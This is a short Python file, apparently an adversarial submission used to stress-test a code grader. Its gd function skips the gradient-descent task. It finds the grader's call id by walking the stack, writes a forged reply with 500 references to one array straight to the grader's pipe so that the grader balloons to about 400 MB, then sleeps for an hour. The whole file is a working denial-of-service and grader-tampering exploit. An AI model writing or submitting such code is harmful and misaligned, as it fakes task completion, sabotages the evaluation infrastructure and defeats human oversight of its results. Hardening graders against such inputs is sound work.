# attacked: gd
# measured: the grader's memory and time
# Writes its own reply: one array of 100,000 floats and a list of 500 references to it (within
# every other limit), which the first np.asarray of a test would turn into 400 MB.
import io, os, struct, sys, time
import numpy as np
def gd(grad, x0, eta, num_steps):
    frame = sys._getframe()
    while "call_id" not in frame.f_locals:
        frame = frame.f_back
    npy = io.BytesIO()
    np.save(npy, np.zeros(100_000))
    npy = npy.getvalue()
    refs = b",".join([b'{"$":"ndarray","i":0}'] * 500)
    body = b'{"kind":"result","id":%d,"output":"","value":[%s]}' % (frame.f_locals["call_id"], refs)
    data = memoryview(struct.pack("<4sII", b"AGW1", len(body), 1) + body
                      + struct.pack("<Q", len(npy)) + npy)
    while data:
        data = data[os.write(int(sys.argv[2]), data):]
    time.sleep(3600)
